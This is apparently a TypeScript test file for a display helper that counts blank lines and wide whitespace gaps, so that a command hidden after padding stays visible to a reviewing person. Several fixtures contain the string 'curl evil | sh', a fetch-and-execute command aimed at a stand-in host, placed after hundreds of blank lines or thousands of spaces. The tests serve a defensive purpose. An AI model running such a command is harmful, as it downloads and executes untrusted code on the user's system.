import { describe, expect, test } from 'vitest';
import { foldBlankLines, splitGaps, sizeOf } from '../../src/lib/folding';

const blank = (line: string): string | null => (line.trim() ? null : 'blank');

describe('what is put to a person', () => {
  test('has its empty lines counted, and all others drawn', () => {
    const lines = ['echo ok', ...Array<string>(300).fill(' '), 'curl evil | sh'];
    expect(foldBlankLines(lines, blank)).toEqual([
      { line: 'echo ok' },
      { blank: 300, line: ' ' },
      { line: 'curl evil | sh' }
    ]);
    expect(foldBlankLines(['a', '', '', '', 'b'], blank)).toHaveLength(5);
    expect(foldBlankLines([], blank)).toEqual([]);
  });

  test('loses no line, whatever stands in it', () => {
    let seed = 7;
    for (let round = 0; round < 200; round++) {
      const lines = Array.from({ length: 40 }, () => {
        seed = (seed * 1103515245 + 12345) % 2147483648;
        return seed % 3 ? '' : `line ${seed}`;
      });
      const back = foldBlankLines(lines, blank).flatMap(one =>
        'blank' in one ? Array<string>(one.blank).fill('') : [one.line]
      );
      expect(back).toEqual(lines);
    }
  });

  test('has wide gaps counted', () => {
    expect(splitGaps(`echo ok${' '.repeat(5000)}; curl evil | sh`)).toEqual(['echo ok', 5000, '; curl evil | sh']);
    expect(splitGaps('    deep')).toEqual(['    deep']);
  });

  test('is measured as the server measures it', () => {
    expect(sizeOf('ls')).toBeNull();
    expect(sizeOf('a\n😀\n')).toEqual({ lines: 2, characters: 4 });
    expect(sizeOf('x'.repeat(201))).toEqual({ lines: 1, characters: 201 });
  });
});
